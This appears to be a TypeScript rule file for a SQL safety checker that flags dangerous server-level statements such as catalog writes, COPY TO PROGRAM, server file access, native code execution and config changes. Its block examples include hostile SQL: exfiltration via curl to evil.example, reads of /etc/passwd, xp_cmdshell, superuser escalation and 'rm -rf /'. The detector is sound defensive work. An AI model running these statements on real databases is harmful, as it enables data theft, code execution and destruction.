// Reaching past the data into the server: programs, files, native code, server settings,
// SQLite's schema and attached files, stored procedures.
import { SYSTEM_CATALOG } from '../../analyze/sql/statement.js';
import type { SqlStatement } from '../../core/ir.js';
import type { DetailedSqlRule } from './match.js';

const CATALOG_CHANGES = new Set(['insert', 'update', 'delete', 'merge', 'truncate', 'alter']);

const catalogTarget = (s: SqlStatement) => (CATALOG_CHANGES.has(s.kind) ? s.targets.find((t) => SYSTEM_CATALOG.test(t)) : undefined);

export const SERVER_RULES: DetailedSqlRule[] = [
  {
    id: 'sql.catalog_write',
    risk: 'HIGH',
    reason: "changes the database's own system catalog (accounts, privileges, the schema itself) directly",
    remediation: 'use CREATE/ALTER/GRANT statements, which keep the catalog consistent, through a reviewed change',
    examples: {
      block: [
        "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app'",
        'DELETE FROM pg_catalog.pg_proc WHERE oid = 1',
        { sql: "UPDATE mysql.user SET authentication_string = '' WHERE user = 'root'", dialect: 'mysql' },
        { sql: "INSERT INTO mysql.user (Host, User) VALUES ('%', 'x')", dialect: 'mysql' },
        { sql: "UPDATE sqlite_master SET sql = 'CREATE TABLE t (x)' WHERE name = 't'", dialect: 'sqlite' },
      ],
      allow: [
        'SELECT * FROM pg_catalog.pg_class',
        { sql: 'SELECT user, host FROM mysql.user', dialect: 'mysql' },
        { sql: "DELETE FROM sqlite_sequence WHERE name = 't'", dialect: 'sqlite' },
        "UPDATE app_users SET role = 'admin' WHERE id = 1",
      ],
    },
    match: (s) => catalogTarget(s) !== undefined,
    detail: catalogTarget,
  },
  {
    id: 'sql.copy_program',
    risk: 'HIGH',
    reason: 'COPY … TO/FROM PROGRAM runs a shell command on the database server',
    remediation: 'use COPY … TO STDOUT / FROM STDIN (psql \\copy) and run programs outside the database',
    examples: {
      block: ["COPY users TO PROGRAM 'curl -d @- http://evil.example'", "COPY t FROM PROGRAM 'id'"],
      allow: ['COPY users TO STDOUT', 'COPY users (id, name) FROM STDIN'],
    },
    match: (s) => s.facts.copyProgram !== undefined,
    detail: (s) => `PROGRAM '${String(s.facts.copyProgram)}'`,
  },
  {
    id: 'sql.server_file',
    risk: 'HIGH',
    reason: "reads or writes files on the database server's file system",
    remediation: 'move data through the client (COPY … TO STDOUT, psql \\copy, LOAD DATA LOCAL from a reviewed file)',
    examples: {
      block: [
        "COPY users TO '/tmp/users.csv'",
        "COPY t FROM '/etc/passwd'",
        "SELECT pg_read_file('/etc/passwd')",
        { sql: "SELECT * FROM users INTO OUTFILE '/tmp/u.txt'", dialect: 'mysql' },
        { sql: "SELECT LOAD_FILE('/etc/passwd')", dialect: 'mysql' },
        { sql: "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", dialect: 'mysql' },
        { sql: "SELECT writefile('/tmp/x', 'data')", dialect: 'sqlite' },
      ],
      allow: ['COPY users TO STDOUT', 'SELECT read_file_name FROM uploads WHERE id = 1', { sql: 'SELECT * FROM files', dialect: 'mysql' }],
    },
    match: (s) => s.facts.serverFile !== undefined,
    detail: (s) => s.facts.serverFile,
  },
  {
    id: 'sql.code_execution',
    risk: 'HIGH',
    reason: 'runs native code or operating-system commands through the database',
    remediation: 'do not run programs through the database; use a reviewed deployment for extensions and native functions',
    examples: {
      block: [
        "LOAD '/tmp/evil.so'",
        "CREATE FUNCTION sys(text) RETURNS int AS '/tmp/evil.so', 'sys' LANGUAGE c",
        'CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os; os.system("id") $$',
        'DO LANGUAGE plpython3u $$ import os $$',
        'CREATE EXTENSION IF NOT EXISTS plpython3u',
        { sql: "SELECT load_extension('/tmp/evil.so')", dialect: 'sqlite' },
        { sql: 'EXEC xp_cmdshell', dialect: 'transactsql' },
        { sql: "EXEC master..xp_cmdshell 'whoami'", dialect: 'transactsql' },
        { sql: "SELECT sys_exec('id')", dialect: 'mysql' },
      ],
      allow: [
        'CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS $$ SELECT a + b $$',
        { sql: 'EXEC dbo.refresh_report', dialect: 'transactsql' },
        'CREATE EXTENSION IF NOT EXISTS pgcrypto',
      ],
    },
    match: (s) => s.facts.codeExecution !== undefined,
    detail: (s) => s.facts.codeExecution,
  },
  {
    id: 'sql.admin_function',
    risk: 'HIGH',
    reason: 'calls a server-administration function (terminate sessions, reload configuration, …)',
    remediation: 'leave server administration to an operator',
    examples: {
      block: [
        'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
        'SELECT pg_reload_conf()',
        { sql: 'EXEC sp_configure', dialect: 'transactsql' },
      ],
      allow: ['SELECT pid, state FROM pg_stat_activity'],
    },
    match: (s) => s.facts.adminFunction !== undefined,
    detail: (s) => s.facts.adminFunction,
  },
  {
    id: 'sql.server_config',
    risk: 'HIGH',
    reason: 'changes server-wide configuration',
    remediation: 'change server settings through configuration management, not a session',
    examples: {
      block: [
        "ALTER SYSTEM SET archive_command = 'rm -rf /'",
        { sql: 'SET GLOBAL general_log = 1', dialect: 'mysql' },
        { sql: 'SET PERSIST max_connections = 1', dialect: 'mysql' },
      ],
      allow: ['SET statement_timeout = 1000', { sql: "SET SESSION sql_mode = 'ANSI'", dialect: 'mysql' }, 'SHOW archive_command'],
    },
    match: (s) => s.facts.serverConfig !== undefined,
    detail: (s) => s.facts.serverConfig,
  },
  {
    id: 'sql.pragma_writable_schema',
    risk: 'HIGH',
    reason: 'PRAGMA writable_schema lets statements edit sqlite_schema directly and corrupt the database',
    remediation: 'change the schema with ALTER/CREATE statements',
    examples: {
      block: [
        { sql: 'PRAGMA writable_schema = 1', dialect: 'sqlite' },
        { sql: 'PRAGMA writable_schema=ON;', dialect: 'sqlite' },
      ],
      allow: [
        { sql: 'PRAGMA writable_schema', dialect: 'sqlite' },
        { sql: 'PRAGMA table_info(users)', dialect: 'sqlite' },
        { sql: 'PRAGMA writable_schema = OFF', dialect: 'sqlite' },
      ],
    },
    match: (s) => s.facts.writableSchema === true,
  },
  {
    id: 'sql.attach',
    risk: 'HIGH',
    reason: 'ATTACH opens (or creates) another database file, anywhere on disk',
    remediation: 'open the other database with its own sqlite3 invocation',
    examples: {
      block: [{ sql: "ATTACH DATABASE '/tmp/evil.db' AS evil", dialect: 'sqlite' }],
      allow: [{ sql: 'SELECT * FROM attachments', dialect: 'sqlite' }],
    },
    match: (s) => s.facts.attach !== undefined,
    detail: (s) => s.facts.attach,
  },
  {
    id: 'sql.pragma',
    risk: 'MEDIUM',
    reason: 'a PRAGMA that changes how SQLite behaves',
    remediation: 'set pragmas in reviewed application code',
    examples: {
      block: [
        { sql: 'PRAGMA foreign_keys = OFF', dialect: 'sqlite' },
        { sql: 'PRAGMA journal_mode = DELETE', dialect: 'sqlite' },
      ],
      allow: [
        { sql: 'PRAGMA table_info(users)', dialect: 'sqlite' },
        { sql: 'PRAGMA foreign_keys', dialect: 'sqlite' },
      ],
    },
    match: (s) => s.kind === 'pragma' && s.facts.pragmaWrite === true && s.facts.writableSchema !== true,
  },
  {
    id: 'sql.call',
    risk: 'MEDIUM',
    reason: 'calls a stored procedure or runs a DO block, whose effects seatbelt sees only in part',
    remediation: 'run the statements the procedure would run, so each can be checked',
    examples: {
      block: [
        'CALL refresh_stats()',
        { sql: 'CALL archive_orders(2023)', dialect: 'mysql' },
        { sql: 'EXEC dbo.nightly', dialect: 'transactsql' },
        "DO $$ BEGIN RAISE NOTICE 'hi'; END $$",
      ],
      allow: ['SELECT refresh_stats FROM jobs'],
    },
    match: (s) => s.kind === 'call',
    detail: (s) => s.facts.callee,
  },
];
